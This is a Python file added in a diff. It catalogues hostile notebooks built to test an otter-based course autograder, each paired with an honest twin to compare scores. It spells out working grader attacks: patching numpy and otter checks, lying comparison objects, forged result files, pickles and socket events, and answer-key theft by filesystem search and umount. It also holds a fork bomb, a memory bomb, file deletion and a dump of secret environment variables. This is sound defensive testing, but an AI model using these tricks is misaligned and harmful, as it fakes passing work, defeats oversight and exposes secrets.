@@ -1,0 +1,840 @@
+"""The attack corpus of issue 5: hostile notebooks for 01_nn_from_scratch and their honest twins.
+
+Every notebook is the solution notebook (dist/01_nn_from_scratch/solution/01_nn_from_scratch.ipynb)
+with one function made WRONG: a `Base`. An `Attack` adds its lines to a base: code put at the top
+of the wrong function's body, code cells inserted before the notebook's last code cell (the export
+cell), or notebook metadata. The attack's honest twin is the base alone, so what an attack
+deserves is exactly its twin's score.
+
+corpus.py turns this catalogue into notebooks.
+"""
+
+from __future__ import annotations
+
+import textwrap
+from dataclasses import dataclass
+
+ASSIGNMENT = "01_nn_from_scratch"
+
+
+@dataclass(frozen=True)
+class Base:
+    """The solution with `function`'s solution region replaced by `wrong_body`.
+
+    `affected`: the questions whose tests may call the function (directly or through other
+    functions of the notebook); every other question must score as in the solution.
+    """
+
+    name: str
+    function: str
+    wrong_body: str
+    affected: frozenset[str]
+
+
+BASES = {
+    base.name: base
+    for base in (
+        Base(
+            "dense_zeros",
+            "dense_forward",
+            "return np.zeros((X.shape[0], W.shape[1]))",
+            frozenset(
+                {
+                    "q_dense_forward",
+                    "q_two_layer_forward",
+                    "q_two_layer_backward",
+                    "q_train_step",
+                    "q_train_two_layer",
+                }
+            ),
+        ),
+        Base(
+            "sgd_noop",
+            "sgd_step",
+            "return None",
+            frozenset({"q_sgd_step", "q_train_step", "q_train_two_layer"}),
+        ),
+    )
+}
+
+EQUAL = "equal"
+AT_MOST = "at_most"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile notebook: `base` plus the attack's lines.
+
+    prepend: code put at the top of the wrong function's body (unindented here);
+    cells: code cells inserted before the last code cell; always_passing_metadata: replace the
+    tests in the notebook's metadata.otter.tests by always-passing ones worth 100 points.
+    In code, ANSWER_PORT, QUESTION_NAMES and PASSED_MESSAGE are filled in when rendering.
+    expect: EQUAL (scores exactly its twin's score) or AT_MOST (the attack can only cost its
+    author: at most the twin's total, and the twin's score on every question not `affected`).
+    """
+
+    name: str
+    title: str
+    base: str = "dense_zeros"
+    prepend: str = ""
+    cells: tuple[str, ...] = ()
+    always_passing_metadata: bool = False
+    expect: str = EQUAL
+    why: str = ""
+
+
+def _code(text: str) -> str:
+    return textwrap.dedent(text).strip("\n")
+
+
+_GRADING_FLAG_CELL = _code(
+    """
+    # From here on the grader runs its tests: the function misbehaves only then.
+    _grading_now = True
+    """
+)
+
+ALWAYS_PASSING_TEST = _code(
+    """
+    from otter.test_files import test_case
+
+    OK_FORMAT = False
+
+    name = "{question}"
+    points = 100
+
+    @test_case(points=None, hidden=False)
+    def test_always_passes():
+        pass
+    """
+)
+
+ATTACKS: tuple[Attack, ...] = (
+    Attack(
+        "patch_assert_allclose",
+        "patch `numpy.testing.assert_allclose` to accept anything",
+        cells=(
+            _code(
+                """
+                import numpy.testing
+                import numpy.testing._private.utils as _testing_utils
+
+
+                def _always_close(*args, **kwargs):
+                    return None
+
+
+                numpy.testing.assert_allclose = _always_close
+                np.testing.assert_allclose = _always_close
+                _testing_utils.assert_allclose = _always_close
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "patch_numpy_comparisons",
+        "patch `np.allclose`, `np.array_equal`, `np.isclose` to say equal",
+        cells=(
+            _code(
+                """
+                _real_ones, _real_shape = np.ones, np.shape
+
+
+                def _all_close(a, b, *args, **kwargs):
+                    try:
+                        return _real_ones(np.broadcast_shapes(_real_shape(a), _real_shape(b)), bool)
+                    except ValueError:
+                        return np.True_
+
+
+                np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
+                np.isclose = _all_close
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "patch_nncheck",
+        "patch the course's checker `nncheck.assert_close` (and friends) to accept anything",
+        cells=(
+            _code(
+                """
+                import nncheck
+                import nncheck.compare
+
+
+                def _accept(*args, **kwargs):
+                    return None
+
+
+                for _module in (nncheck, nncheck.compare):
+                    _module.assert_close = _module.assert_shape = _accept
+                    _module.assert_not_mutated = _accept
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "permissive_eq_object",
+        "return an object whose `__eq__` says equal to everything (zeros otherwise)",
+        prepend=_code(
+            """
+            class _EqualToEverything:
+                \"\"\"Equal to anything; behaves like the zeros array for everything else.\"\"\"
+
+                def __init__(self, data):
+                    self._data = data
+
+                def __eq__(self, other):
+                    return True
+
+                def __ne__(self, other):
+                    return False
+
+                __hash__ = object.__hash__
+
+                def __array__(self, dtype=None, copy=None):
+                    return self._data if dtype is None else self._data.astype(dtype)
+
+                def __array_function__(self, func, types, args, kwargs):
+                    if func.__name__ in ("allclose", "array_equal", "array_equiv"):
+                        return True
+                    if func.__name__ == "isclose":
+                        return np.ones(self._data.shape, dtype=bool)
+                    unwrap = [a._data if isinstance(a, _EqualToEverything) else a for a in args]
+                    return func(*unwrap, **kwargs)
+
+                def __getattr__(self, name):
+                    return getattr(self._data, name)
+
+                def __len__(self):
+                    return len(self._data)
+
+                def __getitem__(self, key):
+                    return self._data[key]
+
+
+            return _EqualToEverything(np.zeros((X.shape[0], W.shape[1])))
+            """
+        ),
+    ),
+    Attack(
+        "ndarray_subclass_lies",
+        "return an ndarray subclass whose `__array_function__`/`__eq__` lie",
+        prepend=_code(
+            """
+            class _Liar(np.ndarray):
+                \"\"\"An array that claims to equal whatever it is compared with.\"\"\"
+
+                def __array_function__(self, func, types, args, kwargs):
+                    if func.__name__ in ("allclose", "array_equal", "array_equiv"):
+                        return True
+                    if func.__name__ == "isclose":
+                        return np.ones(self.shape, dtype=bool)
+                    if func.__name__ == "assert_allclose":
+                        return None
+                    return super().__array_function__(func, types, args, kwargs)
+
+                def __eq__(self, other):
+                    return np.ones(self.shape, dtype=bool)
+
+                def __ne__(self, other):
+                    return np.zeros(self.shape, dtype=bool)
+
+                __hash__ = None
+
+
+            return np.zeros((X.shape[0], W.shape[1])).view(_Liar)
+            """
+        ),
+    ),
+    Attack(
+        "replace_assertion_error",
+        "replace `builtins.AssertionError` by a class `except Exception` does not catch",
+        cells=(
+            _code(
+                """
+                import builtins
+
+
+                class AssertionError(BaseException):  # noqa: A001 - the attack
+                    \"\"\"Not an Exception: `except Exception` in a test runner misses it.\"\"\"
+
+
+                builtins.AssertionError = AssertionError
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "patch_isinstance",
+        "patch `__builtins__.__dict__['isinstance']` to answer True",
+        cells=(
+            _code(
+                """
+                _builtins = __builtins__ if type(__builtins__) is dict else __builtins__.__dict__
+                _builtins["isinstance"] = lambda obj, classinfo: True
+                """
+            ),
+        ),
+        expect=AT_MOST,
+        why="a lying isinstance also breaks the student's own process, including the code that "
+        "answers the referee there, so the attack can cost its author more than the twin",
+    ),
+    Attack(
+        "redefine_grader",
+        "redefine `grader` and `otter.Notebook` as a fake that reports success",
+        cells=(
+            _code(
+                """
+                import otter
+
+
+                class _FakeNotebook:
+                    \"\"\"Every check passes.\"\"\"
+
+                    def __init__(self, *args, **kwargs):
+                        pass
+
+                    def check(self, *args, **kwargs):
+                        return "All tests passed!"
+
+                    check_all = check
+
+                    def export(self, *args, **kwargs):
+                        return None
+
+
+                otter.Notebook = _FakeNotebook
+                grader = _FakeNotebook()
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "patch_otter_test_file_run",
+        "monkeypatch `otter.test_files.ExceptionTestFile.run` to pass every test case",
+        cells=(
+            _code(
+                """
+                from otter.test_files import ExceptionTestFile
+                from otter.test_files.abstract_test import TestCaseResult
+
+
+                def _all_passed(self, global_environment):
+                    self.test_case_results = [
+                        TestCaseResult(test_case=tc, message="PASSED_MESSAGE", passed=True)
+                        for tc in self.test_cases
+                    ]
+
+
+                ExceptionTestFile.run = _all_passed
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "patch_otter_test_case",
+        "monkeypatch otter's `test_case.call_func` (every TestCase body) to do nothing",
+        cells=(
+            _code(
+                """
+                from otter.test_files import exception_test
+
+                exception_test.test_case.call_func = lambda self, global_environment: None
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "import_nnref",
+        "`import nnref` at grading time and return `nnref.dense_forward(X, W, b)`",
+        prepend=_code(
+            """
+            try:
+                import nnref
+
+                return nnref.dense_forward(X, W, b)
+            except Exception:
+                pass
+            """
+        ),
+    ),
+    Attack(
+        "read_answer_key_from_disk",
+        "walk /, /autograder, /work, /tmp, ... for nnref's source and the tests; exec nnref",
+        prepend=_code(
+            """
+            _key = globals().get("_stolen_nnref")
+            if _key is not None:
+                return _key.dense_forward(X, W, b)
+            """
+        ),
+        cells=(
+            _code(
+                """
+                import importlib.util
+                import os
+                import subprocess
+                import sys
+                import time
+
+                if os.geteuid() != 0:  # in a sandbox: try to lift the folders laid over the key
+                    for _folder in ("/work", "/tmp", "/autograder"):
+                        subprocess.run(["umount", "-l", _folder], capture_output=True)
+
+
+                def _load_package(folder):
+                    spec = importlib.util.spec_from_file_location(
+                        "stolen_nnref",
+                        os.path.join(folder, "__init__.py"),
+                        submodule_search_locations=[folder],
+                    )
+                    module = importlib.util.module_from_spec(spec)
+                    sys.modules["stolen_nnref"] = module
+                    spec.loader.exec_module(module)
+                    return module
+
+
+                def _search(budget=5.0):
+                    \"\"\"The answer key (a folder nnref/ with layers.py) and test files.\"\"\"
+                    deadline = time.monotonic() + budget
+                    here = os.getcwd()
+                    roots = [here, os.path.dirname(here), "/autograder", "/work", "/tmp", "/mnt",
+                             "/srv", "/opt", "/home", "/root", "/var", "/"]
+                    skip = {"/proc", "/sys", "/dev", "/usr/share", "/usr/include"}
+                    seen, key, tests = set(), None, {}
+                    for root in roots:
+                        for folder, dirs, files in os.walk(root):
+                            if time.monotonic() > deadline:
+                                return key, tests
+                            if folder in seen:
+                                dirs[:] = []
+                                continue
+                            seen.add(folder)
+                            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
+                            if key is None and os.path.basename(folder) == "nnref" and {
+                                "__init__.py", "layers.py"} <= set(files):
+                                try:
+                                    key = _load_package(folder)
+                                except Exception:
+                                    pass
+                            for name in files:
+                                if name.startswith("q_") and name.endswith(".py"):
+                                    try:
+                                        with open(os.path.join(folder, name)) as handle:
+                                            tests[name] = handle.read()
+                                    except OSError:
+                                        pass
+                            if key is not None and tests:
+                                return key, tests
+                    return key, tests
+
+
+                _stolen_nnref, _stolen_tests = _search()
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "sys_modules",
+        "look in `sys.modules` for any module with a `dense_forward` (nnref) and call it",
+        prepend=_code(
+            """
+            import sys
+
+            _scan = globals().setdefault("_module_scan", {"modules": -1, "found": None})
+            if _scan["found"] is None and len(sys.modules) != _scan["modules"]:
+                _scan["modules"] = len(sys.modules)
+                for _module in list(sys.modules.values()):
+                    _other = getattr(_module, "dense_forward", None)
+                    if callable(_other) and getattr(_other, "__module__", "__main__") != "__main__":
+                        _scan["found"] = _other
+                        break
+            if _scan["found"] is not None:
+                try:
+                    return _scan["found"](X, W, b)
+                except Exception:
+                    pass
+            """
+        ),
+    ),
+    Attack(
+        "fake_nnref_module",
+        "put a fake `nnref` (the notebook's own functions) in `sys.modules`",
+        cells=(
+            _code(
+                """
+                import sys
+                import types
+
+                _notebook_globals = globals()
+
+
+                def _from_notebook(name):
+                    if name not in _notebook_globals:
+                        raise AttributeError(name)
+                    return _notebook_globals[name]
+
+
+                _fake_nnref = types.ModuleType("nnref")
+                _fake_nnref.__getattr__ = _from_notebook
+                sys.modules["nnref"] = sys.modules["nnref.layers"] = _fake_nnref
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "caller_frames",
+        "walk the callers' frames (`sys._getframe`) for an array shaped like the answer",
+        prepend=_code(
+            """
+            import sys
+
+            _want, _frame = (X.shape[0], W.shape[1]), sys._getframe(1)
+            while _frame is not None:
+                if _frame.f_globals is not globals():  # a frame of the grader's code
+                    for _value in list(_frame.f_locals.values()):
+                        if not isinstance(_value, np.ndarray) or _value.dtype.kind != "f":
+                            continue
+                        if _value.shape == _want and not any(_value is a for a in (X, W, b)):
+                            return np.array(_value)
+                _frame = _frame.f_back
+            """
+        ),
+    ),
+    Attack(
+        "write_results_files",
+        "write a full-marks results.json (and results.jsonl) in the cwd and likely paths",
+        cells=(
+            _code(
+                """
+                import json
+                import os
+
+                _questions = QUESTION_NAMES
+                _full = {
+                    "score": 1000.0,
+                    "tests": [{"name": q, "score": 100.0, "max_score": 100.0} for q in _questions],
+                }
+                _here, _parent = os.getcwd(), os.path.dirname(os.getcwd())
+                for _path in [
+                    os.path.join(_here, "results.json"),
+                    os.path.join(_parent, "results.json"),
+                    os.path.join(_parent, "results", "results.json"),
+                    os.path.join(_here, "results", "results.json"),
+                    "/autograder/results/results.json",
+                    os.path.join(_here, "results.jsonl"),
+                    os.path.join(_parent, "results.jsonl"),
+                    os.path.join(_parent, "out", "results.jsonl"),
+                ]:
+                    if os.path.isdir(os.path.dirname(_path)):
+                        try:
+                            with open(_path, "w") as _handle:
+                                json.dump(_full, _handle)
+                        except OSError:
+                            pass
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "forge_results_pickle",
+        "patch `pickle.dump` so otter's results pickle says every test passed",
+        cells=(
+            _code(
+                """
+                import pickle
+
+                _real_dump = pickle.dump
+
+
+                def _forging_dump(obj, file, *args, **kwargs):
+                    results = getattr(obj, "results", None)
+                    if type(results) is dict:
+                        from otter.test_files.abstract_test import TestCaseResult
+
+                        for test_file in results.values():
+                            test_file.test_case_results = [
+                                TestCaseResult(test_case=tc, message="PASSED_MESSAGE", passed=True)
+                                for tc in test_file.test_cases
+                            ]
+                    return _real_dump(obj, file, *args, **kwargs)
+
+
+                pickle.dump = _forging_dump
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "sys_exit_late_cell",
+        "`sys.exit(0)` in a late cell, before the tests",
+        cells=("import sys\n\nsys.exit(0)",),
+    ),
+    Attack(
+        "os_exit_late_cell",
+        "`os._exit(0)` in a late cell, before the tests",
+        cells=("import os\n\nos._exit(0)",),
+    ),
+    Attack(
+        "sys_exit_in_test",
+        "`sys.exit(0)` inside dense_forward, once the tests run",
+        prepend=_code(
+            """
+            if globals().get("_grading_now"):
+                import sys
+
+                sys.exit(0)
+            """
+        ),
+        cells=(_GRADING_FLAG_CELL,),
+        expect=AT_MOST,
+        why="an exit where the twin returns zeros also fails tests that zeros would pass "
+        "(shape checks), so only the questions that never call dense_forward must keep their "
+        "score",
+    ),
+    Attack(
+        "os_exit_in_test",
+        "`os._exit(0)` inside dense_forward, once the tests run",
+        prepend=_code(
+            """
+            if globals().get("_grading_now"):
+                import os
+
+                os._exit(0)
+            """
+        ),
+        cells=(_GRADING_FLAG_CELL,),
+        expect=AT_MOST,
+        why="as sys_exit_in_test",
+    ),
+    Attack(
+        "infinite_loop_in_test",
+        "an infinite loop (that swallows KeyboardInterrupt) inside dense_forward at grading",
+        prepend=_code(
+            """
+            if globals().get("_grading_now"):
+                while True:
+                    try:
+                        while True:
+                            pass
+                    except BaseException:
+                        pass
+            """
+        ),
+        cells=(_GRADING_FLAG_CELL,),
+        expect=AT_MOST,
+        why="the hang uses up the tests' time limit; questions that never call dense_forward "
+        "must keep their score",
+    ),
+    Attack(
+        "fork_bomb",
+        "a fork bomb whose processes survive the fork errors",
+        cells=(
+            _code(
+                """
+                import os
+
+                while True:
+                    try:
+                        os.fork()
+                    except OSError:
+                        pass
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "memory_bomb",
+        "allocate 128 MB after 128 MB until memory runs out",
+        cells=(
+            _code(
+                """
+                _hog = []
+                while True:
+                    _hog.append(np.ones(2**24))
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "gigabyte_output",
+        "print a gigabyte (a million 1 KB lines)",
+        cells=(
+            _code(
+                """
+                _line = "x" * 1023
+                for _ in range(2**20):
+                    print(_line)
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "network_answers",
+        "open a socket to an answer server (on 127.0.0.1) that computes dense_forward",
+        prepend=_code(
+            """
+            import io
+            import socket
+
+            try:
+                with socket.create_connection(("127.0.0.1", ANSWER_PORT), timeout=2) as _conn:
+                    _out = io.BytesIO()
+                    np.savez(_out, X=X, W=W, b=b)
+                    _conn.sendall(len(_out.getvalue()).to_bytes(8, "big") + _out.getvalue())
+                    _size = int.from_bytes(_conn.recv(8, socket.MSG_WAITALL), "big")
+                    _reply = _conn.recv(_size, socket.MSG_WAITALL)
+                return np.load(io.BytesIO(_reply))["Z"]
+            except (OSError, ValueError, KeyError):
+                pass
+            """
+        ),
+    ),
+    Attack(
+        "delete_files",
+        "delete fixtures.npz, nncheck/ (and tests/, nnref/, files/) from the working folder",
+        cells=(
+            _code(
+                """
+                import os
+                import shutil
+
+                for _name in ("fixtures.npz", "nncheck", "tests", "nnref", "files"):
+                    _path = os.path.join(os.getcwd(), _name)
+                    if os.path.isdir(_path):
+                        shutil.rmtree(_path, ignore_errors=True)
+                    elif os.path.exists(_path):
+                        os.remove(_path)
+                """
+            ),
+        ),
+        why="plain otter: the public tests then miss their fixtures",
+    ),
+    Attack(
+        "timing_window",
+        "right answers only within 4 s of the first call (the student's own check), then zeros",
+        prepend=_code(
+            """
+            import time
+
+            _first = globals().setdefault("_first_call", time.monotonic())
+            if time.monotonic() - _first < 4.0:
+                return X @ W + b
+            """
+        ),
+        cells=("import time\n\ntime.sleep(4.5)",),
+    ),
+    Attack(
+        "nth_call",
+        "right answers only on the first 10 calls (the student's own check), then zeros",
+        prepend=_code(
+            """
+            globals()["_calls"] = globals().get("_calls", 0) + 1
+            if globals()["_calls"] <= 10:
+                return X @ W + b
+            """
+        ),
+    ),
+    Attack(
+        "metadata_tests",
+        "notebook metadata `otter.tests` replaced by always-passing tests worth 100 points",
+        always_passing_metadata=True,
+    ),
+    Attack(
+        "fake_numpy_module",
+        "replace `np` (and `sys.modules['numpy']`) by a fake whose comparisons say equal",
+        cells=(
+            _code(
+                """
+                import sys
+                import types
+
+                import numpy
+
+
+                class _FakeNumpy(types.ModuleType):
+                    def __getattr__(self, name):
+                        return getattr(numpy, name)
+
+
+                np = _FakeNumpy("numpy")
+                np.allclose = np.array_equal = lambda *args, **kwargs: True
+                np.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
+                np.testing = types.SimpleNamespace(
+                    assert_allclose=lambda *args, **kwargs: None,
+                    assert_array_equal=lambda *args, **kwargs: None,
+                )
+                sys.modules["numpy"] = np
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "forge_grading_events",
+        "write forged `test passed` + `done` events to every inherited Unix stream socket",
+        cells=(
+            _code(
+                """
+                import json
+                import os
+                import socket
+
+                _events = [
+                    {"event": "test", "file": q, "case": case, "passed": True,
+                     "message": "PASSED_MESSAGE"}
+                    for q in QUESTION_NAMES
+                    for case in range(20)
+                ]
+                _events.append({"event": "done", "interrupted": False})
+                _payload = "".join(json.dumps(e) + "\\n" for e in _events).encode()
+                for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
+                    try:
+                        _sock = socket.socket(fileno=os.dup(_fd))
+                    except OSError:
+                        continue
+                    try:
+                        if _sock.family == socket.AF_UNIX and _sock.type == socket.SOCK_STREAM:
+                            _sock.sendall(_payload)
+                    except OSError:
+                        pass
+                    finally:
+                        _sock.close()
+                """
+            ),
+        ),
+    ),
+    Attack(
+        "leak_environment",
+        "raise an error carrying the grader's secret-looking environment variables",
+        cells=(
+            _code(
+                """
+                import os
+
+                _secrets = sorted(
+                    f"{k}={v}"
+                    for k, v in os.environ.items()
+                    if any(w in k.upper() for w in ("SECRET", "TOKEN", "KEY", "PASSWORD"))
+                )
+                raise RuntimeError(" ".join(_secrets) or "no secrets here")
+                """
+            ),
+        ),
+        why="scores as its twin; what it reads must not reach the student's feedback",
+    ),
+    Attack(
+        "mutate_inputs",
+        "sgd_step zeroes `grads` in place, so the test's expected change `-lr * grads` is 0",
+        base="sgd_noop",
+        prepend=_code(
+            """
+            for _grad in grads.values():
+                _grad[...] = 0.0
+            """
+        ),
+        why="not an engine matter: a test that computes its expectation from an argument after "
+        "the call trusts the student's function with it",
+    ),
+)
